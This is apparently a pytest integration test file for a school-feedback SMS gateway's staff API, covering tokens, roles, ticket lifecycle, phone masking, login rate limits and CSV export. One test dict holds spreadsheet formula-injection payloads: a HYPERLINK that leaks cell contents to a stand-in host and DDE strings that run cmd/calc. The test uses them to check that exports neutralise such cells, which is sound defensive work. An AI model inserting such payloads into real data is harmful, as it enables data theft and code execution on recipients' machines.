"""The staff JSON API: tokens from the CLI, role checks, field errors, lifecycle via HTTP."""

from __future__ import annotations

import csv
import io
import itertools
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from prometheus_client import REGISTRY
from sqlalchemy import select
from sqlalchemy import text as sa_text

from gateway import create_app
from gateway.common.phone import mask
from gateway.common.tickets import check_digit
from gateway.models import (
    Contact,
    Feedback,
    FeedbackEvent,
    OutboundMessage,
    PollAnswer,
    PollOption,
    StaffUser,
)
from gateway.polls.admin import OptionSpec, PollSpec, create_poll
from gateway.runtime import build_runtime
from gateway.staff.auth import hash_token

AUTH_FAILURE_LIMIT = 10  # gateway.staff.limits.AUTH_FAILURES: "10 per minute"

pytestmark = pytest.mark.integration

SMS = "/webhooks/africastalking/sms"
PHONE = "+6281234567890"
_ids = itertools.count(1)


def create_staff(app, name, role):
    result = app.test_cli_runner().invoke(args=["staff", "create", "--name", name, "--role", role])
    assert result.exit_code == 0, result.output
    return result.output.strip().splitlines()[-1]


@pytest.fixture
def tokens(app):
    return {
        role: create_staff(app, f"{role}.disdik", role) for role in ("admin", "officer", "viewer")
    }


def auth(token):
    return {"Authorization": f"Bearer {token}"}


def report(client, rt, text="LAPOR atap SDN 5 Marbau bocor", sender=PHONE):
    form = {"from": sender, "to": "1708", "text": text, "id": f"api-{next(_ids)}"}
    assert client.post(SMS, data=form).status_code == 200
    with rt.sessions() as s:
        return s.scalar(select(Feedback.ticket).order_by(Feedback.id.desc()))


def make_anonymous(rt, ticket, notify=False):
    with rt.sessions.begin() as s:
        fb = s.scalar(select(Feedback).where(Feedback.ticket == ticket))
        fb.anonymous, fb.notify = True, notify


def test_cli_prints_the_token_last_and_stores_only_its_hash(app, rt):
    token = create_staff(app, "rina", "officer")
    with rt.sessions() as s:
        user = s.scalar(select(StaffUser).where(StaffUser.name == "rina"))
        assert user.role == "officer" and user.token_hash == hash_token(token)
        assert token not in (user.token_hash or "")
    again = app.test_cli_runner().invoke(
        args=["staff", "create", "--name", "rina", "--role", "admin"]
    )
    assert again.exit_code != 0 and "already exists" in again.output


def test_cli_refuses_an_unknown_role(app):
    result = app.test_cli_runner().invoke(args=["staff", "create", "--name", "x", "--role", "boss"])
    assert result.exit_code != 0


@pytest.mark.parametrize("header", [None, "Bearer nope", "Basic abc", "Bearer "])
def test_missing_or_bad_token_is_401(client, tokens, header):
    headers = {"Authorization": header} if header else {}
    resp = client.get("/api/v1/feedback", headers=headers)
    assert resp.status_code == 401 and resp.json["error"] == "Unauthorized"


@pytest.mark.parametrize(
    ("method", "path", "role", "body", "status"),
    [
        ("get", "/api/v1/feedback", None, None, 401),
        ("get", "/api/v1/polls/1", None, None, 401),
        ("post", "/api/v1/feedback/1234567/status", "viewer", {"status": "verified"}, 403),
        ("post", "/api/v1/polls", "viewer", {"question": "?"}, 403),
        ("get", "/api/v1/polls/999", "viewer", None, 404),
        ("get", "/api/v1/feedback/9999999", "viewer", None, 404),
    ],
)
def test_feedback_and_poll_apis_answer_errors_in_one_shape(
    client, tokens, method, path, role, body, status
):
    headers = auth(tokens[role]) if role else {}
    resp = getattr(client, method)(path, json=body, headers=headers)
    assert resp.status_code == status
    assert set(resp.json) == {"error", "message"} and resp.json["message"]


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/api/v1/polls", {"question": "", "options": []}, "question"),
        ("/api/v1/feedback?status=nonsense", None, "status"),
    ],
)
def test_invalid_input_is_a_field_error_in_both_apis(client, tokens, path, body, field):
    call = client.post if body is not None else client.get
    resp = call(path, json=body, headers=auth(tokens["officer"]))
    assert resp.status_code == 400 and field in resp.json["errors"]


def test_list_items_carry_the_contract_fields(client, rt, tokens):
    ticket = report(client, rt)
    resp = client.get("/api/v1/feedback", headers=auth(tokens["officer"]))
    assert resp.status_code == 200
    assert resp.json["next"] is None
    (item,) = resp.json["items"]
    assert item["ticket"] == ticket and item["phone"] == PHONE
    assert (item["kind"], item["category"], item["kecamatan"]) == ("complaint", "sarpras", "Marbau")
    assert (item["status"], item["channel"], item["anonymous"], item["overdue"]) == (
        "received", "sms", False, False,
    )  # fmt: skip
    for field in ("school", "text", "created_at", "due_at"):
        assert field in item


def test_anonymous_phone_is_hidden_except_for_admins(client, rt, tokens):
    ticket = report(client, rt)
    make_anonymous(rt, ticket)
    for role, expected in [("viewer", None), ("officer", None), ("admin", PHONE)]:
        item = client.get(f"/api/v1/feedback/{ticket}", headers=auth(tokens[role])).json
        assert item["phone"] == expected, role
    found = client.get(f"/api/v1/feedback?phone={PHONE}", headers=auth(tokens["officer"])).json
    assert found["items"] == []  # a phone filter must not reveal anonymous reporters


def test_filters_and_cursor_pagination(client, rt, tokens):
    report(client, rt, "LAPOR guru sering bolos")
    report(client, rt, "SARAN tambah buku")
    report(client, rt, "TANYA kapan PIP cair", sender="+6281311112222")
    get = lambda qs: client.get(f"/api/v1/feedback?{qs}", headers=auth(tokens["viewer"])).json  # noqa: E731
    assert [i["kind"] for i in get("kind=suggestion")["items"]] == ["suggestion"]
    assert [i["text"] for i in get("q=BOLOS")["items"]] == ["guru sering bolos"]
    assert len(get("phone=081311112222")["items"]) == 1
    assert len(get("status=received&channel=sms")["items"]) == 3
    assert get("since=2999-01-01")["items"] == []
    first = get("limit=2")
    assert len(first["items"]) == 2 and first["next"]
    rest = get(f"limit=2&cursor={first['next']}")
    assert len(rest["items"]) == 1 and rest["next"] is None


def test_bad_filters_get_field_errors(client, tokens):
    resp = client.get(
        "/api/v1/feedback?status=done&kind=x&phone=123&since=yesterday&limit=0&kecamatan=Medan",
        headers=auth(tokens["viewer"]),
    )
    assert resp.status_code == 400
    assert set(resp.json["errors"]) == {"status", "kind", "phone", "since", "limit", "kecamatan"}


def test_unknown_ticket_is_404(client, tokens):
    body = "999999"
    resp = client.get(f"/api/v1/feedback/{body}{check_digit(body)}", headers=auth(tokens["viewer"]))
    assert resp.status_code == 404


def test_viewer_cannot_change_anything(client, rt, tokens):
    ticket = report(client, rt)
    headers = auth(tokens["viewer"])
    assert (
        client.post(
            f"/api/v1/feedback/{ticket}/status", json={"status": "verified"}, headers=headers
        ).status_code
        == 403
    )
    assert (
        client.post(
            f"/api/v1/feedback/{ticket}/reply", json={"text": "Halo"}, headers=headers
        ).status_code
        == 403
    )
    assert (
        client.patch(
            f"/api/v1/feedback/{ticket}", json={"school": "SDN 1"}, headers=headers
        ).status_code
        == 403
    )


def test_officer_walks_the_lifecycle_and_citizen_gets_sms(client, rt, tokens):
    ticket = report(client, rt)
    headers = auth(tokens["officer"])
    url = f"/api/v1/feedback/{ticket}/status"
    resp = client.post(
        url, json={"status": "verified", "note": "diteruskan ke sarpras"}, headers=headers
    )
    assert resp.status_code == 200 and resp.json["sms_queued"] is True
    assert (
        client.post(url, json={"status": "in_progress", "notify": False}, headers=headers).json[
            "sms_queued"
        ]
        is False
    )
    done = client.post(
        url, json={"status": "resolved", "note": "Atap sudah diperbaiki 2 Des."}, headers=headers
    )
    assert done.status_code == 200
    with rt.sessions() as s:
        fb = s.scalar(select(Feedback))
        assert fb.status == "resolved" and fb.resolved_at is not None and fb.due_at > fb.resolved_at
        texts = s.scalars(select(OutboundMessage.text).order_by(OutboundMessage.id)).all()
    assert len(texts) == 3  # confirmation, verified, resolved
    assert ticket in texts[1] and "diverifikasi" in texts[1]
    assert "Atap sudah diperbaiki" in texts[2]
    detail = client.get(f"/api/v1/feedback/{ticket}", headers=headers).json
    statuses = [e["to_status"] for e in detail["history"] if e["kind"] == "status"]
    assert statuses == ["received", "verified", "in_progress", "resolved"]
    assert detail["history"][1]["note"] == "diteruskan ke sarpras" and detail["history"][1]["sms"]
    assert len(detail["messages"]) == 3


def test_forbidden_transition_and_bad_status_body_are_field_errors(client, rt, tokens):
    ticket = report(client, rt)
    headers = auth(tokens["officer"])
    url = f"/api/v1/feedback/{ticket}/status"
    resp = client.post(url, json={"status": "closed"}, headers=headers)
    assert resp.status_code == 400 and "received" in resp.json["errors"]["status"]
    resp = client.post(url, json={"status": "rejected"}, headers=headers)
    assert resp.status_code == 400 and "note" in resp.json["errors"]
    resp = client.post(url, json={"status": "nope", "notify": "yes"}, headers=headers)
    assert set(resp.json["errors"]) == {"status", "notify"}
    resp = client.post(url, data="not json", headers=headers)
    assert resp.status_code == 400 and "body" in resp.json["errors"]


def test_rejection_tells_the_citizen_where_to_go(client, rt, tokens):
    ticket = report(client, rt, "LAPOR jalan desa rusak")
    note = "Jalan desa wewenang Dinas PUPR Labura, hubungi kantor PUPR di Aek Kanopan."
    resp = client.post(
        f"/api/v1/feedback/{ticket}/status",
        json={"status": "rejected", "note": note},
        headers=auth(tokens["admin"]),
    )
    assert resp.status_code == 200
    with rt.sessions() as s:
        last = s.scalars(select(OutboundMessage.text).order_by(OutboundMessage.id.desc())).first()
    assert "bukan wewenang" in last and "Dinas PUPR" in last


def test_anonymous_report_gets_status_sms_only_when_asked(client, rt, tokens):
    ticket = report(client, rt)
    make_anonymous(rt, ticket, notify=False)
    url = f"/api/v1/feedback/{ticket}/status"
    resp = client.post(url, json={"status": "verified"}, headers=auth(tokens["officer"]))
    assert resp.json["sms_queued"] is False
    make_anonymous(rt, ticket, notify=True)
    resp = client.post(url, json={"status": "in_progress"}, headers=auth(tokens["officer"]))
    assert resp.json["sms_queued"] is True


def test_reply_is_normalised_to_gsm7_and_kept_in_history(client, rt, tokens):
    ticket = report(client, rt)
    resp = client.post(
        f"/api/v1/feedback/{ticket}/reply",
        json={"text": "Terima kasih “Bapak” — tim sudah ke sekolah 🙏"},
        headers=auth(tokens["officer"]),
    )
    assert resp.status_code == 200 and resp.json["warnings"]
    with rt.sessions() as s:
        row = s.get(OutboundMessage, resp.json["outbound_id"])
        assert (
            row.text
            == f'Disdik Labura, tiket {ticket}: Terima kasih "Bapak" - tim sudah ke sekolah'
        )
        assert (
            s.scalar(select(FeedbackEvent.kind).where(FeedbackEvent.outbound_id == row.id))
            == "reply"
        )


def test_reply_field_errors(client, rt, tokens):
    ticket = report(client, rt)
    url = f"/api/v1/feedback/{ticket}/reply"
    headers = auth(tokens["officer"])
    assert "text" in client.post(url, json={}, headers=headers).json["errors"]
    assert "text" in client.post(url, json={"text": "🙏🙏"}, headers=headers).json["errors"]
    assert (
        "too long"
        in client.post(url, json={"text": "x" * 400}, headers=headers).json["errors"]["text"]
    )


def test_patch_corrects_tags_and_assigns(client, rt, tokens):
    ticket = report(client, rt, "LAPOR ada masalah")
    headers = auth(tokens["officer"])
    with rt.sessions() as s:
        officer_id = s.scalar(select(StaffUser.id).where(StaffUser.role == "officer"))
    body = {
        "category": "guru",
        "kecamatan": "aek kanopan",
        "school": "SDN 112",
        "assigned_to": officer_id,
    }
    resp = client.patch(f"/api/v1/feedback/{ticket}", json=body, headers=headers)
    assert resp.status_code == 200
    assert (resp.json["category"], resp.json["kecamatan"], resp.json["school"]) == (
        "guru",
        "Kualuh Hulu",
        "SDN 112",
    )
    assert resp.json["assigned_to"] == officer_id
    bad = client.patch(
        f"/api/v1/feedback/{ticket}",
        json={"category": "x", "colour": 1, "assigned_to": 999},
        headers=headers,
    )
    assert bad.status_code == 400 and set(bad.json["errors"]) == {"category", "colour"}
    missing = client.patch(f"/api/v1/feedback/{ticket}", json={"assigned_to": 999}, headers=headers)
    assert missing.status_code == 400 and "assigned_to" in missing.json["errors"]


def test_overdue_is_flagged(client, rt, tokens):
    ticket = report(client, rt)
    with rt.sessions.begin() as s:
        s.scalar(select(Feedback)).due_at = datetime.now(UTC) - timedelta(minutes=1)
    item = client.get(f"/api/v1/feedback/{ticket}", headers=auth(tokens["viewer"])).json
    assert item["overdue"] is True


# Tokens: expiry, rotation, revocation (CLI and admin endpoints).


def staff_cli(app, *args):
    return app.test_cli_runner().invoke(args=["staff", *args])


def expire_token(rt, name, ago=timedelta(seconds=1)):
    with rt.sessions.begin() as s:
        s.scalar(select(StaffUser).where(StaffUser.name == name)).token_expires_at = (
            datetime.now(UTC) - ago
        )


def refusal(client, token):
    """The 401 message a request with ``token`` gets (None when it is let in)."""
    resp = client.get("/api/v1/feedback", headers=auth(token))
    if resp.status_code == 200:
        return None
    assert resp.status_code == 401 and set(resp.json) == {"error", "message"}, resp.json
    return resp.json["message"]


def test_cli_token_with_an_expiry_works_until_it_expires(app, client, rt):
    result = staff_cli(app, "create", "--name", "tmp", "--role", "viewer", "--expires-days", "7")
    assert result.exit_code == 0, result.output
    token = result.output.strip().splitlines()[-1]
    assert "valid until" in result.output
    with rt.sessions() as s:
        expires = s.scalar(select(StaffUser.token_expires_at).where(StaffUser.name == "tmp"))
    assert timedelta(days=6, hours=23) < expires - datetime.now(UTC) <= timedelta(days=7)
    assert refusal(client, token) is None
    expire_token(rt, "tmp")
    assert refusal(client, token) == "this staff token has expired"


def test_cli_refuses_an_expiry_that_is_not_a_positive_number_of_days(app):
    for days in ("0", "-1", "x", "99999"):
        result = staff_cli(app, "create", "--name", "n", "--role", "viewer", "--expires-days", days)
        assert result.exit_code != 0 and "expires-days" in result.output, (days, result.output)


def test_cli_rotate_prints_a_new_token_last_and_the_old_one_stops_at_once(app, client, rt):
    old = create_staff(app, "rina", "officer")
    assert refusal(client, old) is None
    result = staff_cli(app, "rotate", "--name", "rina", "--expires-days", "30")
    assert result.exit_code == 0, result.output
    new = result.output.strip().splitlines()[-1]
    assert new != old and "valid until" in result.output
    assert refusal(client, old) == "invalid staff token"
    assert refusal(client, new) is None
    with rt.sessions() as s:
        user = s.scalar(select(StaffUser).where(StaffUser.name == "rina"))
    assert user.token_hash == hash_token(new) and user.role == "officer"
    assert user.token_expires_at > datetime.now(UTC) + timedelta(days=29)
    again = staff_cli(app, "rotate", "--name", "rina")  # no --expires-days: never expires
    assert again.exit_code == 0 and refusal(client, new) == "invalid staff token"
    with rt.sessions() as s:
        assert s.scalar(select(StaffUser.token_expires_at)) is None


def test_cli_revoke_stops_the_token_and_rotate_issues_one_again(app, client):
    token = create_staff(app, "rina", "officer")
    result = staff_cli(app, "revoke", "--name", "rina")
    assert result.exit_code == 0 and "revoked" in result.output, result.output
    assert refusal(client, token) == "this staff token was revoked"
    assert staff_cli(app, "revoke", "--name", "rina").exit_code == 0  # twice: still revoked
    assert refusal(client, token) == "this staff token was revoked"
    rotated = staff_cli(app, "rotate", "--name", "rina")
    assert refusal(client, rotated.output.strip().splitlines()[-1]) is None
    assert refusal(client, token) == "invalid staff token"


@pytest.mark.parametrize("command", ["revoke", "rotate"])
def test_cli_names_an_unknown_account(app, command):
    result = staff_cli(app, command, "--name", "nobody")
    assert result.exit_code != 0 and "no staff account named 'nobody'" in result.output


def test_an_inactive_account_is_refused_and_gets_no_new_token(app, client, rt):
    token = create_staff(app, "old.staff", "officer")
    with rt.sessions.begin() as s:
        s.scalar(select(StaffUser)).active = False
    assert refusal(client, token) == "this staff account is inactive"
    result = staff_cli(app, "rotate", "--name", "old.staff")
    assert result.exit_code != 0 and "inactive" in result.output


def staff_id(rt, name):
    with rt.sessions() as s:
        return s.scalar(select(StaffUser.id).where(StaffUser.name == name))


def test_admin_lists_accounts_with_their_token_state(client, rt, tokens):
    expire_token(rt, "viewer.disdik")
    resp = client.get("/api/v1/staff", headers=auth(tokens["admin"]))
    assert resp.status_code == 200, resp.json
    states = {a["name"]: (a["role"], a["token"]) for a in resp.json["items"]}
    assert states == {
        "admin.disdik": ("admin", "active"),
        "officer.disdik": ("officer", "active"),
        "viewer.disdik": ("viewer", "expired"),
    }
    assert all("token_hash" not in a and a["active"] for a in resp.json["items"])
    assert client.get("/api/v1/staff", headers=auth(tokens["officer"])).status_code == 403


def test_admin_revokes_a_token_over_the_api(client, rt, tokens):
    officer = staff_id(rt, "officer.disdik")
    url = f"/api/v1/staff/{officer}/revoke"
    assert client.post(url, headers=auth(tokens["officer"])).status_code == 403
    assert refusal(client, tokens["officer"]) is None  # a 403 revokes nothing
    resp = client.post(url, headers=auth(tokens["admin"]))
    assert resp.status_code == 200 and resp.json["name"] == "officer.disdik", resp.json
    assert resp.json["revoked_at"]
    assert refusal(client, tokens["officer"]) == "this staff token was revoked"
    listed = client.get("/api/v1/staff", headers=auth(tokens["admin"])).json["items"]
    assert {a["name"]: a["token"] for a in listed}["officer.disdik"] == "revoked"
    missing = client.post("/api/v1/staff/999999/revoke", headers=auth(tokens["admin"]))
    assert missing.status_code == 404 and set(missing.json) == {"error", "message"}


def test_admin_rotates_a_token_over_the_api(client, rt, tokens):
    viewer = staff_id(rt, "viewer.disdik")
    url = f"/api/v1/staff/{viewer}/rotate"
    assert client.post(url, headers=auth(tokens["viewer"])).status_code == 403
    resp = client.post(url, headers=auth(tokens["admin"]), json={"expires_days": 30})
    assert resp.status_code == 200, resp.json
    assert resp.headers["Cache-Control"] == "no-store"
    new = resp.json["token"]
    assert (resp.json["id"], resp.json["role"]) == (viewer, "viewer")
    expires = datetime.fromisoformat(resp.json["expires_at"])
    assert timedelta(days=29) < expires - datetime.now(UTC) <= timedelta(days=30)
    assert refusal(client, tokens["viewer"]) == "invalid staff token"
    assert refusal(client, new) is None
    plain = client.post(url, headers=auth(tokens["admin"]))  # no body: a token for ever
    assert plain.status_code == 200 and plain.json["expires_at"] is None
    assert refusal(client, new) == "invalid staff token"
    for body in ({"expires_days": 0}, {"expires_days": "30"}, {"expires_days": True}):
        bad = client.post(url, headers=auth(tokens["admin"]), json=body)
        assert bad.status_code == 400 and set(bad.json["errors"]) == {"expires_days"}, body
    bad = client.post(url, headers=auth(tokens["admin"]), json={"days": 3})
    assert bad.status_code == 400 and set(bad.json["errors"]) == {"days"}
    assert client.post(url, headers=auth(tokens["admin"]), json=[1]).status_code == 400


def test_failed_authentications_are_counted_by_reason(app, client, rt, tokens):
    def count(reason):
        return (
            REGISTRY.get_sample_value("suara_staff_auth_failures_total", {"reason": reason}) or 0.0
        )

    before = {r: count(r) for r in ("missing", "unknown", "revoked", "expired")}
    client.get("/api/v1/feedback")
    client.get("/api/v1/feedback", headers={"Authorization": "Basic abc"})
    client.get("/api/v1/feedback", headers=auth("nope"))
    client.get("/api/v1/feedback", headers=auth(tokens["officer"]))  # good: not counted
    staff_cli(app, "revoke", "--name", "officer.disdik")
    client.get("/api/v1/feedback", headers=auth(tokens["officer"]))
    expire_token(rt, "viewer.disdik")
    client.get("/api/v1/polls/1", headers=auth(tokens["viewer"]))
    after = {r: count(r) - before[r] for r in before}
    assert after == {"missing": 2, "unknown": 1, "revoked": 1, "expired": 1}
    metrics = client.get("/metrics").get_data(as_text=True)
    assert 'suara_staff_auth_failures_total{reason="unknown"}' in metrics


# Failed authentications are rate-limited per address (Flask-Limiter on the test Redis).


def from_address(address):
    return {"environ_base": {"REMOTE_ADDR": address}}


def test_ten_failed_authentications_a_minute_block_the_address(app, client, rt, tokens):
    bad, good = auth("wrong-token"), auth(tokens["officer"])
    attacker, colleague = from_address("203.0.113.7"), from_address("203.0.113.8")
    for _ in range(AUTH_FAILURE_LIMIT):
        assert client.get("/api/v1/feedback", headers=bad, **attacker).status_code == 401
    for path in ("/api/v1/feedback", "/api/v1/polls/1", "/api/v1/staff"):
        blocked = client.get(path, headers=good, **attacker)  # even a good token
        assert blocked.status_code == 429, (path, blocked.status_code)
        assert set(blocked.json) == {"error", "message"} and "failed" in blocked.json["message"]
        assert int(blocked.headers["Retry-After"]) <= 60
    assert client.get("/api/v1/feedback", headers=good, **colleague).status_code == 200
    assert client.post(SMS, data={"from": PHONE}, **attacker).status_code != 429  # webhooks
    keys = list(rt.redis.scan_iter("*staff-auth*"))  # the counter is in Redis, for a minute
    assert len(keys) == 1 and b"203.0.113.7" in keys[0]
    assert 0 < rt.redis.ttl(keys[0]) <= 60
    rt.redis.delete(*keys)  # what the window's end does
    assert client.get("/api/v1/feedback", headers=good, **attacker).status_code == 200


def test_behind_a_trusted_proxy_the_limit_counts_the_forwarded_address(make_app, settings):
    app = make_app(replace(settings, trusted_proxies=1))
    client, token = app.test_client(), create_staff(app, "rina", "officer")
    proxy = from_address("127.0.0.1")  # every request comes from the TLS proxy
    attacker = {"X-Forwarded-For": "203.0.113.7"}
    for _ in range(AUTH_FAILURE_LIMIT):
        client.get("/api/v1/feedback", headers={**attacker, **auth("bad")}, **proxy)
    blocked = client.get("/api/v1/feedback", headers={**attacker, **auth(token)}, **proxy)
    assert blocked.status_code == 429
    colleague = {"X-Forwarded-For": "203.0.113.8", **auth(token)}
    assert client.get("/api/v1/feedback", headers=colleague, **proxy).status_code == 200


def test_good_requests_are_not_limited(client, tokens):
    headers = auth(tokens["viewer"])
    for _ in range(3 * AUTH_FAILURE_LIMIT):
        assert client.get("/api/v1/feedback", headers=headers).status_code == 200
    for _ in range(AUTH_FAILURE_LIMIT - 1):  # nor are they counted against the address
        assert client.get("/api/v1/feedback", headers=auth("nope")).status_code == 401
    assert client.get("/api/v1/feedback", headers=headers).status_code == 200


def test_the_failure_count_is_shared_by_every_web_process(app, make_app, settings, client):
    other = make_app(settings).test_client()  # a second gunicorn worker on the same Redis
    token = create_staff(app, "rina", "officer")
    for _ in range(AUTH_FAILURE_LIMIT):
        assert client.get("/api/v1/feedback", headers=auth("nope")).status_code == 401
    assert other.get("/api/v1/feedback", headers=auth(token)).status_code == 429


# What a viewer sees of phone numbers, and what a spreadsheet does with an export.

OTHER = "+6281311112222"
FORMULAS = {  # what a spreadsheet would run, in the fields of a recipient's row
    "kecamatan": '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "role": "@SUM(1+1)*cmd|'!A0",
    "failure_reason": "-2+3+cmd|' /C calc'!A0",
}


def sent_poll(rt, phones, *, kecamatan=None, role=None, failure_reason=None):
    """A poll whose SMS went to ``phones`` (failed, with ``failure_reason``), the first
    of whom answered with the option labelled ``+1`` (staff text: a formula too)."""
    with rt.sessions.begin() as s:
        poll_id = create_poll(s, PollSpec("Setuju?", (OptionSpec("+1"), OptionSpec("Tidak"))))
        contacts = [
            s.scalar(select(Contact).where(Contact.phone == p)) or Contact(phone=p) for p in phones
        ]
        for contact in contacts:
            contact.kecamatan, contact.role = kecamatan, role
        s.add_all(contacts)
        s.flush()
        s.add_all(
            OutboundMessage(
                to=c.phone, text="Setuju?", contact_id=c.id, poll_id=poll_id, purpose="poll",
                status="failed", failure_reason=failure_reason,
            )
            for c in contacts
        )  # fmt: skip
        option = s.scalar(select(PollOption.id).where(PollOption.poll_id == poll_id))
        s.add(
            PollAnswer(poll_id=poll_id, contact_id=contacts[0].id, option_id=option, channel="sms")
        )
    return poll_id


def csv_rows(rt, resp):
    """The rows of a CSV answer, read to its end; then nothing of it holds a transaction
    (an export left open would block every migration and TRUNCATE)."""
    text = resp.get_data(as_text=True)
    assert resp.status_code == 200 and resp.mimetype == "text/csv", (resp.status_code, text)
    if rt.engine.dialect.name == "postgresql":
        with rt.engine.begin() as conn:
            conn.execute(sa_text("SET LOCAL lock_timeout = '2s'"))
            conn.execute(sa_text("LOCK TABLE outbound_messages IN ACCESS EXCLUSIVE MODE"))
    return list(csv.DictReader(io.StringIO(text)))


def test_a_viewer_sees_phone_numbers_masked_in_every_answer(client, rt, tokens):
    ticket = report(client, rt)
    poll_id = sent_poll(rt, [PHONE, OTHER])
    masked = {PHONE: mask(PHONE), OTHER: mask(OTHER)}
    for role, shown in [("viewer", masked), ("officer", {PHONE: PHONE, OTHER: OTHER})]:
        headers = auth(tokens[role])
        listed = client.get("/api/v1/feedback", headers=headers).json["items"]
        assert [i["phone"] for i in listed] == [shown[PHONE]], role
        found = client.get(f"/api/v1/feedback?phone={PHONE}", headers=headers).json["items"]
        assert [i["phone"] for i in found] == [shown[PHONE]], role
        detail = client.get(f"/api/v1/feedback/{ticket}", headers=headers)
        assert detail.json["phone"] == shown[PHONE], role
        assert PHONE not in detail.get_data(as_text=True) or role != "viewer"
        page = client.get(f"/api/v1/polls/{poll_id}/recipients", headers=headers).json
        assert [i["phone"] for i in page["items"]] == [shown[PHONE], shown[OTHER]], role
        for path in (f"/api/v1/polls/{poll_id}/results.csv", f"/api/v1/polls/{poll_id}/results"):
            rows = csv_rows(rt, client.get(path, headers=headers, query_string={"format": "csv"}))
            assert [r["phone"] for r in rows] == [f"'{shown[PHONE]}", f"'{shown[OTHER]}"], role
    assert mask(PHONE) == "+6281******890"


def test_anonymous_numbers_stay_hidden_from_viewers_and_officers(client, rt, tokens):
    ticket = report(client, rt)
    make_anonymous(rt, ticket)
    for role, expected in [("viewer", None), ("officer", None), ("admin", PHONE)]:
        listed = client.get("/api/v1/feedback", headers=auth(tokens[role])).json["items"]
        assert [i["phone"] for i in listed] == [expected], role


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(app, client, rt, tokens):
    poll_id = sent_poll(rt, [PHONE, OTHER], **FORMULAS)
    (first, second) = csv_rows(
        rt, client.get(f"/api/v1/polls/{poll_id}/results.csv", headers=auth(tokens["officer"]))
    )
    for row in (first, second):
        for field, value in FORMULAS.items():
            assert row[field] == f"'{value}", (field, row[field])
        assert row["phone"].startswith("'+62") and row["status"] == "failed"
    assert first["answer"] == "'+1" and second["answer"] == ""
    out = app.test_cli_runner().invoke(args=["poll", "results", str(poll_id), "--csv"])
    assert out.exit_code == 0, out.output
    cli_rows = list(csv.DictReader(io.StringIO(out.output)))
    assert cli_rows == [first, second]  # the operator's export: whole numbers, same rule


def test_with_redis_down_the_api_still_answers_and_still_limits(app, settings, caplog):
    """The limiter's Redis unreachable: each process counts in memory meanwhile; a good
    token still reads, ten failures still block (no 5xx either way)."""
    token = create_staff(app, "rina", "officer")  # the database the app below shares
    dead = replace(settings, redis_url="redis://127.0.0.1:1/0")  # nothing listens there
    web = build_runtime(dead)
    try:
        client = create_app(dead, runtime=web).test_client()
        assert client.get("/api/v1/feedback", headers=auth(token)).status_code == 200
        for _ in range(AUTH_FAILURE_LIMIT):
            assert client.get("/api/v1/feedback", headers=auth("nope")).status_code == 401
        assert client.get("/api/v1/feedback", headers=auth(token)).status_code == 429
    finally:
        web.engine.dispose()
    assert "falling back to in-memory storage" in caplog.text
